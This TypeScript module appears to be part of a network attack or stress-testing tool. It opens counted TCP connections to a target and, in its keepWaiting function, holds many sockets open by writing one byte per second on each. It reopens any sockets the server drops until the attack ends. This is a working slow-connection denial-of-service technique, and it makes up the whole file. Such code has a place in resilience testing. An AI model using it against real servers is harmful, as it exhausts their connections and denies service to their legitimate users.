import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackContext } from './attack.ts';

/** Connections of attacks; some make their own over TCP. */

/** Time between two attempts to connect, ms. */
export const CONNECT_AGAIN_MS = 20;
/** Bytes without an acknowledgement from which an attacker waits. */
export const MAX_UNSENT_BYTES = 256 * 1024;

/** Interval of the bytes of a connection that is kept waiting, ms. */
const BYTE_EVERY_MS = 1000;
const BYTE = Buffer.from('x');

export const turn = () => new Promise(setImmediate);
export const isLost = (socket: Socket) => socket.destroyed || !socket.writable;

/** Opens a TCP connection, which is counted, and resolves when it is open or refused. */
export async function openTcp({ noteConnection }: AttackContext, host: string, port: number) {
  const socket = connectTcp({ host, port });
  socket.on('connect', noteConnection);
  // 'close' follows.
  socket.on('error', () => {});
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
  return socket;
}

/** Keeps many connections open, with a byte a second on each, and opens those again that the server ends. */
export async function keepWaiting(
  context: AttackContext,
  count: number,
  open: () => Promise<Socket>,
): Promise<() => Promise<void>> {
  const openAll = (places: number) => Promise.all(Array.from({ length: places }, open));
  let sockets = await openAll(count);
  return async () => {
    while (!context.isOver()) {
      for (const socket of sockets) {
        socket.write(BYTE, (fault) => {
          if (!fault) context.noteSent(1, BYTE.length);
        });
      }
      await sleep(BYTE_EVERY_MS);
      const kept = sockets.filter((socket) => !isLost(socket));
      sockets = [...kept, ...(await openAll(count - kept.length))];
    }
    for (const socket of sockets) socket.destroy();
  };
}
